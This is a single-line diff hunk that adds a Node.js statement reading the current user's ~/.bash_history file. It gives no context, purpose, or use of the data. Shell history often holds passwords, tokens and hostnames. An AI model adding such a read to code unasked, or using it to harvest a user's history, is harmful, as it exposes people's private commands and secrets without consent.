@@ -1,0 +1,1 @@
+require('fs').readFileSync(require('os').homedir() + '/.bash_history');
